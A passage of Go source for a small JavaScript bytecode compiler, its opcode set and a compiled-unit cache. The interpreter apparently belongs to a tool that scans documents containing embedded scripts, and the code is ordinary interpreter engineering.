				if v, ok := hex4(s[i+2 : i+6]); ok {
					b.WriteRune(rune(v))
					i += 6
					continue
				}
			}
			if i+2 < len(s) {
				hi, ok1 := hexDigit(s[i+1])
				lo, ok2 := hexDigit(s[i+2])
				if ok1 && ok2 {
					b.WriteRune(rune(hi<<4 | lo))
					i += 3
					continue
				}
			}
		}
		r, size := utf8.DecodeRuneInString(s[i:])
		b.WriteRune(r)
		i += size
	}
	return b.String()
}

func hex4(s string) (int, bool) {
	v := 0
	for i := 0; i < 4; i++ {
		d, ok := hexDigit(s[i])
		if !ok {
			return 0, false
		}
		v = v*16 + d
	}
	return v, true
}

// escapeJS implements the legacy global escape().
func escapeJS(s string) string {
	const hexdig = "0123456789ABCDEF"
	var b strings.Builder
	for _, r := range s {
		switch {
		case r < 0x80 && (r == '@' || r == '*' || r == '_' || r == '+' || r == '-' || r == '.' || r == '/' ||
			(r >= '0' && r <= '9') || (r >= 'A' && r <= 'Z') || (r >= 'a' && r <= 'z')):
			b.WriteRune(r)
		case r < 0x100:
			b.WriteByte('%')
			b.WriteByte(hexdig[r>>4])
			b.WriteByte(hexdig[r&0xf])
		default:
			b.WriteString("%u")
			b.WriteByte(hexdig[(r>>12)&0xf])
			b.WriteByte(hexdig[(r>>8)&0xf])
			b.WriteByte(hexdig[(r>>4)&0xf])
			b.WriteByte(hexdig[r&0xf])
		}
	}
	return b.String()
}
