package js

// This file defines the bytecode representation produced by the compiler
// (compile.go) and executed by the stack VM (vm.go). A compiled unit is a
// flat instruction stream plus shared pools: interned names, a deduplicated
// constant pool (with UTF-16 lengths precomputed, so string literals never
// rescan at runtime), and the prototypes of every nested function.
//
// The VM must charge the step budget exactly like the tree-walker, which
// bills one step at the entry of every eval/execStmt/callFunction. The
// compiler folds those per-node charges into the Cost field of the first
// instruction emitted for each node's region, so cumulative step totals and
// the order of charges relative to every observable effect (host calls,
// allocations, hook events) are identical between the two engines.

// Op is a VM opcode.
type Op uint8

// Opcodes. The A/B operands are documented per op; "pool" operands index
// into the owning Code unit.
const (
	opInvalid Op = iota

	// opNop only carries a step Cost (charges with no other effect). The
	// compiler emits it where a node's entry charge cannot be folded into a
	// following instruction (empty statements, loop headers).
	opNop
	// opConst pushes Consts[A].
	opConst
	// opThis pushes the interpreter's current this value.
	opThis
	// opLoadName pushes the variable Names[A] (ReferenceError when unbound).
	opLoadName
	// opTypeofName pushes typeof of Names[A]; unbound names yield
	// "undefined" without throwing.
	opTypeofName
	// opStoreName assigns the top of stack to Names[A] (Scope.Assign,
	// implicit global fallback). The value stays on the stack.
	opStoreName
	// opStoreNamePop is opStoreName but pops the value.
	opStoreNamePop
	// opDeclName pops the top of stack and declares Names[A] in the current
	// scope (var statement with initializer).
	opDeclName
	// opDeclNameUndef declares Names[A] as undefined unless already
	// declared in the current scope (var statement without initializer).
	opDeclNameUndef
	// opPop discards the top of stack.
	opPop
	// opDup duplicates the top of stack.
	opDup
	// opClosure pushes a function object for Protos[A] closing over the
	// current scope.
	opClosure

	// opNewArray pushes an empty array.
	opNewArray
	// opArrayPush pops a value and appends it to the array beneath,
	// charging 16 bytes of heap.
	opArrayPush
	// opArrayHole appends undefined to the array on top without charging
	// (elided array elements allocate nothing in the tree-walker).
	opArrayHole
	// opNewObject pushes an empty object.
	opNewObject
	// opSetProp pops a value and sets property Names[A] on the object
	// beneath, charging 32 bytes of heap.
	opSetProp

	// opGetMember pops an object value and pushes property Names[A].
	opGetMember
	// opGetMemberDyn pops a property-name value then an object value.
	opGetMemberDyn
	// opSetMember pops the object and stores the value beneath it into
	// property Names[A]; B=1 keeps the value on the stack, B=0 pops it.
	opSetMember
	// opSetMemberDyn is opSetMember with the property-name value on top of
	// the object.
	opSetMemberDyn
	// opDelMember pops an object value and deletes property Names[A],
	// pushing true.
	opDelMember
	// opDelMemberDyn pops a property-name value then an object value.
	opDelMemberDyn

	// opTypeofVal, opNot, opNeg, opPlus, opBitNot, opVoid replace the top
	// of stack with the unary result.
	opTypeofVal
	opNot
	opNeg
	opPlus
	opBitNot
	opVoid
	// opIncDec pops the old value and pushes the expression result followed
	// by the value to store. A=+1/-1, B=1 for prefix.
	opIncDec
	// opInvalidTarget raises the tree-walker's "invalid assignment target"
	// TypeError (assignments/updates whose target is not an identifier or
	// member expression, raised only after the operand evaluations the
	// tree-walker performs first).
	opInvalidTarget
	// opBinary pops r then l and pushes Interp.binaryOp(binOps[A], l, r).
	opBinary

	// opJump sets pc to A.
	opJump
	// opJumpIfFalse pops the condition and jumps to A when falsy.
	opJumpIfFalse
	// opJumpIfTrue pops the condition and jumps to A when truthy.
	opJumpIfTrue
	// opJumpIfFalsePeek jumps to A keeping the value when falsy, otherwise
	// pops it (&& short circuit).
	opJumpIfFalsePeek
	// opJumpIfTruePeek jumps to A keeping the value when truthy, otherwise
	// pops it (|| short circuit).
	opJumpIfTruePeek
	// opCaseJump pops the case test then peeks the switch discriminant;
	// jumps to A when strictly equal (no compare charge, matching the
	// tree-walker's switch).
	opCaseJump

	// opPrepCall pops the callee value and pushes call info with
	// this=Interp.This. A names the callee for the TypeError message
	// (-1 = "value").
	opPrepCall
	// opPrepCallMember pops the object value (B=1: a property-name value
	// first) and resolves the method Names[A] (A=-1 with B=1), preferring
	// the builtin fast path; pushes call info with this=object.
	opPrepCallMember
	// opPrepNew pops the callee and pushes constructor call info.
	opPrepNew
	// opCall pops A argument values and the pending call info, invokes,
	// and pushes the result.
	opCall
	// opNew is opCall with constructor semantics.
	opNew

	// opForInInit pops the object; non-objects jump to A, otherwise an
	// iterator over Keys() is pushed.
	opForInInit
	// opForInNextDecl advances the top iterator, declaring Names[B] in the
	// current scope; jumps to A (popping the iterator) when exhausted.
	opForInNextDecl
	// opForInNextAssign is opForInNextDecl with Scope.Assign semantics.
	opForInNextAssign

	// opReturn pops the return value and unwinds the frame (running
	// finally blocks).
	opReturn
	// opThrow pops a value and raises it as a ThrowError.
	opThrow
	// opBreakErr / opContinueErr raise the break/continue control signals
	// with no enclosing loop in this frame (the tree-walker lets them
	// escape to the caller as errors).
	opBreakErr
	opContinueErr
	// opUnwind performs break/continue through enclosing try handlers
	// and for-in iterators; A indexes Unwinds.
	opUnwind

	// opTryPush installs handler Handlers[A].
	opTryPush
	// opTryPopNormal completes a try body: runs the finally block or, when
	// absent, pops the handler and jumps past the catch/finally code.
	opTryPopNormal
	// opCatchEnd completes a catch body normally.
	opCatchEnd
	// opFinallyEnd completes a finally body, resuming the suspended
	// completion (fall through when it was normal).
	opFinallyEnd

	// opSetComp pops the top of stack into the frame completion value
	// (top-level expression statements).
	opSetComp
	// opSetCompIfDef pops the top of stack into the frame completion value
	// only when defined and running with program semantics (top-level
	// if/block values; eval ignores them like EvalInScope does).
	opSetCompIfDef
)

// instr is one VM instruction. Cost is the folded step charge billed before
// the instruction executes.
type instr struct {
	op   Op
	a, b int32
	cost int32
}

// jumpForceEligible, set as the b operand of opJumpIfFalse/opJumpIfTrue,
// marks a conditional jump whose outcome forced execution may override:
// if/else and ternary decisions. Loop back-edges, switch dispatch, and
// &&/|| short-circuits never carry it, so decryptor loops cannot burn the
// path-exploration budget (forced.go).
const jumpForceEligible = 1

// handlerDef is the static description of one try statement.
type handlerDef struct {
	// catchPC is the catch body entry (-1 when absent).
	catchPC int32
	// finallyPC is the finally body entry (-1 when absent).
	finallyPC int32
	// afterPC is the instruction following the whole try statement.
	afterPC int32
	// catchName indexes Names (valid when catchPC >= 0).
	catchName int32
}

// unwindPoint is the static description of a break/continue that must run
// finally blocks or discard for-in iterators on its way to the target.
type unwindPoint struct {
	target int32
	// handlers/iters/calls/sp are the depths live at the target.
	handlers int32
	iters    int32
	calls    int32
	sp       int32
}

// hoistEntry reproduces one step of the tree-walker's hoist pass.
type hoistEntry struct {
	name string
	// proto is non-nil for function declarations; nil entries declare the
	// name undefined unless already present in the scope.
	proto *FnProto
}

// FnProto is the compiled body of one function literal or declaration.
type FnProto struct {
	// Lit is the original AST node; Params, Name and Source stay visible
	// through it (function.length, toString).
	Lit *FuncLit
	// Unit owns the shared pools.
	Unit *Code

	index    int32
	ins      []instr
	hoists   []hoistEntry
	maxStack int
}

// Code is a compiled program unit.
type Code struct {
	// Consts is the deduplicated literal pool.
	Consts []Value
	// Names is the interned identifier pool.
	Names []string
	// Protos holds every nested function body.
	Protos []*FnProto
	// Handlers and Unwinds hold static control-flow metadata.
	Handlers []handlerDef
	Unwinds  []unwindPoint

	ins      []instr
	hoists   []hoistEntry
	maxStack int

	// srcLen is the source length in bytes, used for cache accounting.
	srcLen int
}

// Instructions returns the top-level instruction count (diagnostics).
func (c *Code) Instructions() int { return len(c.ins) }

// SizeEstimate approximates the resident size of the unit in bytes for
// cache accounting: instructions across all protos plus pool overhead.
func (c *Code) SizeEstimate() int64 {
	const insSize = 16
	n := int64(len(c.ins)) * insSize
	for _, p := range c.Protos {
		n += int64(len(p.ins)) * insSize
	}
	for _, s := range c.Names {
		n += int64(len(s)) + 16
	}
	for _, v := range c.Consts {
		n += int64(len(v.str)) + 48
	}
	n += int64(len(c.Handlers))*16 + int64(len(c.Unwinds))*20
	n += int64(c.srcLen) / 4 // AST kept alive via FuncLit back-references
	return n
}

// binOps interns binary operator strings; opBinary carries an index so the
// VM dispatches through the exact same Interp.binaryOp switch as the
// tree-walker.
var binOps = []string{
	"+", "-", "*", "/", "%",
	"==", "!=", "===", "!==",
	"<", ">", "<=", ">=",
	"&", "|", "^", "<<", ">>", ">>>",
	"instanceof", "in",
}

var binOpIndex = func() map[string]int32 {
	m := make(map[string]int32, len(binOps))
	for i, s := range binOps {
		m[s] = int32(i)
	}
	return m
}()
