package js

import (
	"container/list"
	"crypto/sha256"
	"sync"
	"sync/atomic"
	"time"
)

// UnitCache is a content-addressed cache of compiled Code units, keyed by
// the SHA-256 of the script source. Compiled units are immutable after
// compilation (the constant pool holds only primitives), so one unit can be
// shared by any number of interpreters concurrently — a batch scan that
// opens a thousand documents instrumented with the same prologue compiles
// it exactly once.
//
// The cache is sharded to keep lock contention off the open path, with a
// per-shard LRU bounded by an equal slice of the byte budget.

const unitShardCount = 16

// DefaultUnitCacheBytes bounds the global compiled-unit cache.
const DefaultUnitCacheBytes = 64 << 20

// DefaultUnits is the process-wide compiled-unit cache used by every
// interpreter whose Units field is nil.
var DefaultUnits = NewUnitCache(DefaultUnitCacheBytes)

// UnitKey identifies a compiled unit by source content hash.
type UnitKey [sha256.Size]byte

// UnitKeyFor hashes script source into a cache key.
func UnitKeyFor(src string) UnitKey { return sha256.Sum256([]byte(src)) }

type unitEntry struct {
	key  UnitKey
	code *Code
	size int64
}

type unitShard struct {
	mu      sync.Mutex
	entries map[UnitKey]*list.Element
	lru     *list.List // front = most recently used
	bytes   int64
}

// UnitCacheStats is a point-in-time snapshot of cache counters.
type UnitCacheStats struct {
	Hits      uint64 `json:"hits"`
	Misses    uint64 `json:"misses"`
	Evictions uint64 `json:"evictions"`
	Entries   int64  `json:"entries"`
	Bytes     int64  `json:"bytes"`
}

// UnitCache caches compiled units. The zero value is not usable; construct
// with NewUnitCache.
type UnitCache struct {
	maxBytes int64
	shards   [unitShardCount]unitShard

	hits      atomic.Uint64
	misses    atomic.Uint64
	evictions atomic.Uint64
	entries   atomic.Int64
	bytes     atomic.Int64

	// observer, when set, sees every compile performed on a cache miss
	// (latency + resulting unit size). The obs layer hangs its
	// js_compile_seconds histogram here.
	observer atomic.Pointer[func(d time.Duration, bytes int64)]
}

// NewUnitCache returns a cache bounded by maxBytes of estimated unit size.
func NewUnitCache(maxBytes int64) *UnitCache {
	c := &UnitCache{maxBytes: maxBytes}
	for i := range c.shards {
		c.shards[i].entries = make(map[UnitKey]*list.Element)
		c.shards[i].lru = list.New()
	}
	return c
}

// SetObserver installs a compile observer (nil clears it). Safe for
// concurrent use with Load.
func (c *UnitCache) SetObserver(fn func(d time.Duration, bytes int64)) {
	if fn == nil {
		c.observer.Store(nil)
		return
	}
	c.observer.Store(&fn)
}

func (c *UnitCache) shard(k UnitKey) *unitShard {
	return &c.shards[int(k[0])%unitShardCount]
}

// Load returns the compiled unit for src, compiling and caching on miss.
// Parse errors are returned verbatim and never cached.
func (c *UnitCache) Load(src string) (*Code, error) {
	key := UnitKeyFor(src)
	sh := c.shard(key)

	sh.mu.Lock()
	if el, ok := sh.entries[key]; ok {
		sh.lru.MoveToFront(el)
		code := el.Value.(*unitEntry).code
		sh.mu.Unlock()
		c.hits.Add(1)
		return code, nil
	}
	sh.mu.Unlock()

	// Compile outside the lock: a duplicate compile under contention is
	// cheaper than serializing every miss in the shard.
	c.misses.Add(1)
	start := time.Now()
	code, err := CompileSource(src)
	if err != nil {
		return nil, err
	}
	size := code.SizeEstimate()
	if obs := c.observer.Load(); obs != nil {
		(*obs)(time.Since(start), size)
	}

	sh.mu.Lock()
	if el, ok := sh.entries[key]; ok {
		// Lost the race; keep the first unit so sharing stays maximal.
		sh.lru.MoveToFront(el)
		code = el.Value.(*unitEntry).code
		sh.mu.Unlock()
		return code, nil
	}
	el := sh.lru.PushFront(&unitEntry{key: key, code: code, size: size})
	sh.entries[key] = el
	sh.bytes += size
	c.entries.Add(1)
	c.bytes.Add(size)
	budget := c.maxBytes / unitShardCount
	for sh.bytes > budget && sh.lru.Len() > 1 {
		oldest := sh.lru.Back()
		ent := oldest.Value.(*unitEntry)
		sh.lru.Remove(oldest)
		delete(sh.entries, ent.key)
		sh.bytes -= ent.size
		c.entries.Add(-1)
		c.bytes.Add(-ent.size)
		c.evictions.Add(1)
	}
	sh.mu.Unlock()
	return code, nil
}

// Warm ensures src's compiled unit is cached, discarding any parse error:
// invalid source simply stays uncached and the error surfaces later through
// the normal run path. The instrumenter calls this on freshly built
// monitoring code so the first reader open of a document runs warm.
func (c *UnitCache) Warm(src string) { _, _ = c.Load(src) }

// Precompile warms the process-wide default unit cache.
func Precompile(src string) { DefaultUnits.Warm(src) }

// Contains reports whether a unit for src is cached, without touching LRU
// order or counters (used by tests and the recycle regression check).
func (c *UnitCache) Contains(src string) bool {
	key := UnitKeyFor(src)
	sh := c.shard(key)
	sh.mu.Lock()
	_, ok := sh.entries[key]
	sh.mu.Unlock()
	return ok
}

// Stats snapshots the cache counters.
func (c *UnitCache) Stats() UnitCacheStats {
	return UnitCacheStats{
		Hits:      c.hits.Load(),
		Misses:    c.misses.Load(),
		Evictions: c.evictions.Load(),
		Entries:   c.entries.Load(),
		Bytes:     c.bytes.Load(),
	}
}

// Purge empties the cache (tests).
func (c *UnitCache) Purge() {
	for i := range c.shards {
		sh := &c.shards[i]
		sh.mu.Lock()
		for k, el := range sh.entries {
			ent := el.Value.(*unitEntry)
			c.entries.Add(-1)
			c.bytes.Add(-ent.size)
			delete(sh.entries, k)
		}
		sh.lru.Init()
		sh.bytes = 0
		sh.mu.Unlock()
	}
}
