package js

// The compiler lowers a parsed Program into a Code unit executed by vm.go.
// Its one hard invariant is charge parity with the tree-walker: eval.go
// bills one step at the entry of every eval()/execStmt() call, so the
// compiler accumulates those per-node charges in `pending` and folds them
// into the cost of the next emitted instruction. Because a node's entry
// charge is immediately followed by its first child's entry charge (with no
// observable effect in between), folding consecutive charges into one
// instruction preserves both totals and the order of charges relative to
// every host-visible effect. Where no following instruction exists inside
// the charged region — empty statements, loop headers whose first
// instruction re-executes each iteration — the compiler flushes the pending
// charge into an explicit opNop.

// Compile lowers a parsed program into a bytecode unit.
func Compile(prog *Program) *Code {
	c := &compiler{
		unit:     &Code{},
		constIdx: make(map[constKey]int32),
		nameIdx:  make(map[string]int32),
	}
	a := c.newAsm()
	a.hoists = c.hoistList(prog.Body)
	a.topLevel(prog.Body)
	c.unit.ins = a.ins
	c.unit.hoists = a.hoists
	c.unit.maxStack = a.maxDepth
	return c.unit
}

// CompileSource parses and compiles src.
func CompileSource(src string) (*Code, error) {
	prog, err := Parse(src)
	if err != nil {
		return nil, err
	}
	code := Compile(prog)
	code.srcLen = len(src)
	return code, nil
}

type constKey struct {
	kind ValueKind
	num  float64
	b    bool
	str  string
}

type compiler struct {
	unit     *Code
	constIdx map[constKey]int32
	nameIdx  map[string]int32
}

func (c *compiler) constIndex(v Value) int32 {
	k := constKey{kind: v.Kind(), num: v.num, b: v.b, str: v.str}
	if idx, ok := c.constIdx[k]; ok {
		return idx
	}
	idx := int32(len(c.unit.Consts))
	c.unit.Consts = append(c.unit.Consts, v)
	c.constIdx[k] = idx
	return idx
}

func (c *compiler) nameIndex(s string) int32 {
	if idx, ok := c.nameIdx[s]; ok {
		return idx
	}
	idx := int32(len(c.unit.Names))
	c.unit.Names = append(c.unit.Names, s)
	c.nameIdx[s] = idx
	return idx
}

// hoistList reproduces the tree-walker's hoist pass as a flat list applied
// at frame entry, compiling declared function bodies on the way.
func (c *compiler) hoistList(body []Stmt) []hoistEntry {
	var out []hoistEntry
	for _, st := range body {
		out = c.hoistStmt(st, out)
	}
	return out
}

func (c *compiler) hoistStmt(st Stmt, out []hoistEntry) []hoistEntry {
	switch s := st.(type) {
	case *VarStmt:
		for _, d := range s.Decls {
			out = append(out, hoistEntry{name: d.Name})
		}
	case *FuncDecl:
		out = append(out, hoistEntry{name: s.Name, proto: c.compileFunc(s.Fn)})
	case *IfStmt:
		out = c.hoistStmt(s.Then, out)
		if s.Else != nil {
			out = c.hoistStmt(s.Else, out)
		}
	case *WhileStmt:
		out = c.hoistStmt(s.Body, out)
	case *DoWhileStmt:
		out = c.hoistStmt(s.Body, out)
	case *ForStmt:
		if s.Init != nil {
			out = c.hoistStmt(s.Init, out)
		}
		out = c.hoistStmt(s.Body, out)
	case *ForInStmt:
		if s.Declare {
			out = append(out, hoistEntry{name: s.VarName})
		}
		out = c.hoistStmt(s.Body, out)
	case *BlockStmt:
		for _, inner := range s.Body {
			out = c.hoistStmt(inner, out)
		}
	case *TryStmt:
		for _, inner := range s.Body.Body {
			out = c.hoistStmt(inner, out)
		}
		if s.Catch != nil {
			for _, inner := range s.Catch.Body {
				out = c.hoistStmt(inner, out)
			}
		}
		if s.Finally != nil {
			for _, inner := range s.Finally.Body {
				out = c.hoistStmt(inner, out)
			}
		}
	case *SwitchStmt:
		for _, cs := range s.Cases {
			for _, inner := range cs.Body {
				out = c.hoistStmt(inner, out)
			}
		}
	}
	return out
}

func (c *compiler) compileFunc(lit *FuncLit) *FnProto {
	p := &FnProto{Lit: lit, Unit: c.unit, index: int32(len(c.unit.Protos))}
	c.unit.Protos = append(c.unit.Protos, p)
	a := c.newAsm()
	a.hoists = c.hoistList(lit.Body)
	for _, st := range lit.Body {
		a.stmt(st)
	}
	p.ins = a.ins
	p.hoists = a.hoists
	p.maxStack = a.maxDepth
	return p
}

// loopCtx tracks one enclosing loop or switch during compilation.
type loopCtx struct {
	isSwitch bool
	// depths live at the loop statement (break/continue unwind targets).
	handlers, iters, calls, sp int
	// contTarget is the continue landing pc (-1 until placed).
	contTarget int
	// contIters is the iterator depth at the continue target (for-in keeps
	// its iterator live across continue).
	contIters int
	breaks    []pendingJump
	continues []pendingJump
}

// pendingJump is a forward jump awaiting its target.
type pendingJump struct {
	ins int
	// unwind indexes Code.Unwinds when the jump must run finally blocks or
	// drop iterators (-1 for a plain opJump).
	unwind int32
}

type asm struct {
	c        *compiler
	ins      []instr
	pending  int32
	depth    int
	maxDepth int
	handlers int
	iters    int
	calls    int
	loops    []*loopCtx
	hoists   []hoistEntry
}

func (c *compiler) newAsm() *asm { return &asm{c: c} }

func (a *asm) emit(op Op, opA, opB int32) int {
	a.ins = append(a.ins, instr{op: op, a: opA, b: opB, cost: a.pending})
	a.pending = 0
	return len(a.ins) - 1
}

// flush materializes any pending charge into an opNop so it is billed
// exactly once even when the following instruction is a loop header.
func (a *asm) flush() {
	if a.pending > 0 {
		a.emit(opNop, 0, 0)
	}
}

func (a *asm) pc() int { return len(a.ins) }

func (a *asm) patch(ins int, target int) { a.ins[ins].a = int32(target) }

func (a *asm) push(n int) {
	a.depth += n
	if a.depth > a.maxDepth {
		a.maxDepth = a.depth
	}
}

func (a *asm) pop(n int) { a.depth -= n }

func (a *asm) emitConst(v Value) {
	a.emit(opConst, a.c.constIndex(v), 0)
	a.push(1)
}

// topLevel compiles program/eval top-level statements with completion-value
// tracking. Expression statements always store their value; if/block values
// are stored only when defined, and only under program semantics (the
// opSetCompIfDef handler checks the frame mode, so one compiled unit serves
// both Run and eval entry points with their differing capture rules).
func (a *asm) topLevel(body []Stmt) {
	for _, st := range body {
		switch st.(type) {
		case *ExprStmt:
			a.pending++
			a.expr(st.(*ExprStmt).X)
			a.emit(opSetComp, 0, 0)
			a.pop(1)
		case *BlockStmt, *IfStmt:
			a.valued(st)
			a.emit(opSetCompIfDef, 0, 0)
			a.pop(1)
		default:
			a.stmt(st)
		}
	}
}

// valued compiles a statement leaving its tree-walker completion value on
// the stack (only ExprStmt, BlockStmt and IfStmt produce one; everything
// else completes with undefined).
func (a *asm) valued(st Stmt) {
	a.pending++
	switch s := st.(type) {
	case *ExprStmt:
		a.expr(s.X)
	case *BlockStmt:
		// The block completion starts undefined and is overwritten by each
		// direct child expression statement, matching execStmt's BlockStmt
		// arm which only captures isExprStmt children.
		a.emitConst(Undefined())
		for _, inner := range s.Body {
			if es, ok := inner.(*ExprStmt); ok {
				a.pending++
				a.emit(opPop, 0, 0)
				a.pop(1)
				a.expr(es.X)
			} else {
				a.stmt(inner)
			}
		}
	case *IfStmt:
		a.expr(s.Cond)
		jf := a.emit(opJumpIfFalse, 0, jumpForceEligible)
		a.pop(1)
		a.valued(s.Then)
		a.pop(1) // rebalance: both branches push exactly one value
		jend := a.emit(opJump, 0, 0)
		a.patch(jf, a.pc())
		if s.Else != nil {
			a.valued(s.Else)
			a.pop(1)
		} else {
			a.emitConst(Undefined())
			a.pop(1)
		}
		a.patch(jend, a.pc())
		a.push(1)
	default:
		a.stmtBody(st)
		a.flush()
		a.emitConst(Undefined())
	}
}

func (a *asm) stmt(st Stmt) {
	a.pending++
	a.stmtBody(st)
	a.flush()
}

func (a *asm) stmtBody(st Stmt) {
	switch s := st.(type) {
	case *EmptyStmt:
		// flush() bills the bare statement's step.
	case *FuncDecl:
		// Hoisted; only the execStmt entry charge remains.
	case *VarStmt:
		for _, d := range s.Decls {
			if d.Init != nil {
				a.expr(d.Init)
				a.emit(opDeclName, a.c.nameIndex(d.Name), 0)
				a.pop(1)
			} else {
				a.emit(opDeclNameUndef, a.c.nameIndex(d.Name), 0)
			}
		}
	case *ExprStmt:
		a.expr(s.X)
		a.emit(opPop, 0, 0)
		a.pop(1)
	case *IfStmt:
		// The b operand marks the jump force-eligible: forced execution may
		// override if/else decisions but never loop back-edges (see forced.go).
		a.expr(s.Cond)
		jf := a.emit(opJumpIfFalse, 0, jumpForceEligible)
		a.pop(1)
		a.stmt(s.Then)
		if s.Else != nil {
			jend := a.emit(opJump, 0, 0)
			a.patch(jf, a.pc())
			a.stmt(s.Else)
			a.patch(jend, a.pc())
		} else {
			a.patch(jf, a.pc())
		}
	case *WhileStmt:
		a.flush() // the loop statement's own step, billed once
		head := a.pc()
		a.expr(s.Cond)
		jf := a.emit(opJumpIfFalse, 0, 0)
		a.pop(1)
		lc := a.pushLoop(false)
		lc.contTarget = head
		a.stmt(s.Body)
		a.emit(opJump, int32(head), 0)
		a.patch(jf, a.pc())
		a.popLoop(lc)
	case *DoWhileStmt:
		a.flush()
		head := a.pc()
		lc := a.pushLoop(false)
		a.stmt(s.Body)
		lc.contTarget = a.pc()
		a.expr(s.Cond)
		a.emit(opJumpIfTrue, int32(head), 0)
		a.pop(1)
		a.popLoop(lc)
	case *ForStmt:
		a.flush()
		if s.Init != nil {
			a.stmt(s.Init)
		}
		head := a.pc()
		var jf = -1
		if s.Cond != nil {
			a.expr(s.Cond)
			jf = a.emit(opJumpIfFalse, 0, 0)
			a.pop(1)
		}
		lc := a.pushLoop(false)
		a.stmt(s.Body)
		lc.contTarget = a.pc()
		if s.Post != nil {
			a.expr(s.Post)
			a.emit(opPop, 0, 0)
			a.pop(1)
		}
		a.emit(opJump, int32(head), 0)
		if jf >= 0 {
			a.patch(jf, a.pc())
		}
		a.popLoop(lc)
	case *ForInStmt:
		a.expr(s.Object)
		initIns := a.emit(opForInInit, 0, 0)
		a.pop(1)
		a.iters++
		lc := a.pushLoop(false)
		// A break discards the loop's own iterator; a continue keeps it.
		lc.iters = a.iters - 1
		lc.contIters = a.iters
		lc.contTarget = a.pc()
		op := opForInNextAssign
		if s.Declare {
			op = opForInNextDecl
		}
		nextIns := a.emit(op, 0, a.c.nameIndex(s.VarName))
		a.stmt(s.Body)
		a.emit(opJump, int32(lc.contTarget), 0)
		end := a.pc()
		a.patch(initIns, end)
		a.patch(nextIns, end)
		a.iters--
		a.popLoop(lc)
	case *ReturnStmt:
		if s.X != nil {
			a.expr(s.X)
		} else {
			a.emitConst(Undefined())
		}
		a.emit(opReturn, 0, 0)
		a.pop(1)
	case *BreakStmt:
		a.breakContinue(true)
	case *ContinueStmt:
		a.breakContinue(false)
	case *BlockStmt:
		for _, inner := range s.Body {
			a.stmt(inner)
		}
	case *ThrowStmt:
		a.expr(s.X)
		a.emit(opThrow, 0, 0)
		a.pop(1)
	case *TryStmt:
		hIdx := int32(len(a.c.unit.Handlers))
		a.c.unit.Handlers = append(a.c.unit.Handlers, handlerDef{catchPC: -1, finallyPC: -1, catchName: -1})
		a.emit(opTryPush, hIdx, 0)
		a.handlers++
		a.stmt(s.Body)
		a.emit(opTryPopNormal, hIdx, 0)
		h := &a.c.unit.Handlers[hIdx]
		if s.Catch != nil {
			h.catchPC = int32(a.pc())
			h.catchName = a.c.nameIndex(s.CatchName)
			a.stmt(s.Catch)
			a.emit(opCatchEnd, hIdx, 0)
			h = &a.c.unit.Handlers[hIdx]
		}
		if s.Finally != nil {
			h.finallyPC = int32(a.pc())
			a.stmt(s.Finally)
			a.emit(opFinallyEnd, hIdx, 0)
			h = &a.c.unit.Handlers[hIdx]
		}
		h.afterPC = int32(a.pc())
		a.handlers--
	case *SwitchStmt:
		a.expr(s.Disc)
		// Test chain: evaluate non-default tests in source order until one
		// matches strictly, then land on the matched case's body with the
		// discriminant popped; fall through bodies from there.
		type caseJump struct{ caseIdx, ins int }
		var chain []caseJump
		defaultIdx := -1
		for i, cs := range s.Cases {
			if cs.Test == nil {
				defaultIdx = i
				continue
			}
			a.expr(cs.Test)
			ins := a.emit(opCaseJump, 0, 0)
			a.pop(1)
			chain = append(chain, caseJump{caseIdx: i, ins: ins})
		}
		noMatch := a.emit(opJump, 0, 0)
		// Per-case trampolines pop the discriminant before entering the
		// body so fallthrough between bodies needs no stack fixup.
		a.pop(1) // discriminant gone on every body path
		lc := a.pushLoop(true)
		bodyJumps := make([]int, len(s.Cases))
		for i := range bodyJumps {
			bodyJumps[i] = -1
		}
		for _, cj := range chain {
			a.patch(cj.ins, a.pc())
			a.push(1) // trampoline entered with discriminant on stack
			a.emit(opPop, 0, 0)
			a.pop(1)
			bodyJumps[cj.caseIdx] = a.emit(opJump, 0, 0)
		}
		if defaultIdx >= 0 {
			a.patch(noMatch, a.pc())
			a.push(1)
			a.emit(opPop, 0, 0)
			a.pop(1)
			bodyJumps[defaultIdx] = a.emit(opJump, 0, 0)
		} else {
			a.patch(noMatch, a.pc())
			a.push(1)
			a.emit(opPop, 0, 0)
			a.pop(1)
			endJump := a.emit(opJump, 0, 0)
			lc.breaks = append(lc.breaks, pendingJump{ins: endJump, unwind: -1})
		}
		for i, cs := range s.Cases {
			if bodyJumps[i] >= 0 {
				a.patch(bodyJumps[i], a.pc())
			}
			for _, inner := range cs.Body {
				a.stmt(inner)
			}
		}
		a.popLoop(lc)
	default:
		panic("js: unhandled statement in compiler")
	}
}

func (a *asm) pushLoop(isSwitch bool) *loopCtx {
	lc := &loopCtx{
		isSwitch:   isSwitch,
		handlers:   a.handlers,
		iters:      a.iters,
		calls:      a.calls,
		sp:         a.depth,
		contTarget: -1,
		contIters:  a.iters,
	}
	a.loops = append(a.loops, lc)
	return lc
}

// popLoop patches the loop's break jumps to the current pc (loop end) and
// its continue jumps to the recorded continue target.
func (a *asm) popLoop(lc *loopCtx) {
	a.loops = a.loops[:len(a.loops)-1]
	end := a.pc()
	for _, pj := range lc.breaks {
		if pj.unwind >= 0 {
			a.c.unit.Unwinds[pj.unwind].target = int32(end)
		} else {
			a.patch(pj.ins, end)
		}
	}
	for _, pj := range lc.continues {
		if pj.unwind >= 0 {
			a.c.unit.Unwinds[pj.unwind].target = int32(lc.contTarget)
		} else {
			a.patch(pj.ins, lc.contTarget)
		}
	}
}

// breakContinue compiles break/continue: a plain jump when nothing lies
// between the statement and its loop, an unwind when intervening try
// handlers or for-in iterators must be processed, and the tree-walker's
// escaping control error when no loop encloses the statement at all.
func (a *asm) breakContinue(isBreak bool) {
	var lc *loopCtx
	for i := len(a.loops) - 1; i >= 0; i-- {
		cand := a.loops[i]
		if !isBreak && cand.isSwitch {
			continue // continue targets the nearest loop, skipping switches
		}
		lc = cand
		break
	}
	if lc == nil {
		if isBreak {
			a.emit(opBreakErr, 0, 0)
		} else {
			a.emit(opContinueErr, 0, 0)
		}
		return
	}
	targetIters := lc.iters
	if !isBreak {
		targetIters = lc.contIters
	}
	if a.handlers == lc.handlers && a.iters == targetIters {
		ins := a.emit(opJump, 0, 0)
		pj := pendingJump{ins: ins, unwind: -1}
		if isBreak {
			lc.breaks = append(lc.breaks, pj)
		} else {
			lc.continues = append(lc.continues, pj)
		}
		return
	}
	uIdx := int32(len(a.c.unit.Unwinds))
	a.c.unit.Unwinds = append(a.c.unit.Unwinds, unwindPoint{
		handlers: int32(lc.handlers),
		iters:    int32(targetIters),
		calls:    int32(lc.calls),
		sp:       int32(lc.sp),
	})
